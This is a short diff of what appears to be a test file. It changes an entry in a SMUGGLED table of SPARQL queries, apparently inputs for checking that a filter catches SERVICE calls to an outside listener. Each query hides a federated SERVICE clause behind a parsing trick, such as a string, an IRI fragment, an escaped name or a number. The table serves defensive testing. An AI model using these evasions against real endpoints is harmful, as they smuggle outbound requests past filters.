@@ -28,7 +28,7 @@ SMUGGLED = {
     "behind a long string": f"SELECT * {{ ?s ?p '''a' \\''' ''' . SERVICE <{LISTENER}> {{ ?s ?p ?o }} }}",
     "behind an IRI with #": f"SELECT * {{ ?s <http://e/#x> ?o . SERVICE <{LISTENER}> {{ ?s ?p ?o }} }}",
     "behind an escaped local name": f"PREFIX e: <http://e/> SELECT * {{ ?s e:a\\#b ?o . SERVICE <{LISTENER}> {{ }} }}",
-    "quote in a comparison": f"SELECT * {{ ?s ?p ?a FILTER(?a<'>') SERVICE <{LISTENER}> {{ ?s ?p ?o }} FILTER(?a='') }}",
+    "quote in a comparison": f"SELECT * {{ ?s ?p ?a FILTER(?a<'>') SERVICE <{LISTENER}> {{ ?s ?p ?o }} FILTER(?a='')}}",
     "after a number": f"SELECT * {{ ?s ?p 5SERVICE <{LISTENER}> {{ ?s ?p ?o }} }}",
     "after a decimal": f"SELECT * {{ ?s ?p 5.SERVICE <{LISTENER}> {{ ?s ?p ?o }} }}",
     "after a variable": f"SELECT * {{ ?s ?p ?o.SERVICE <{LISTENER}> {{ ?s ?p ?o }} }}",
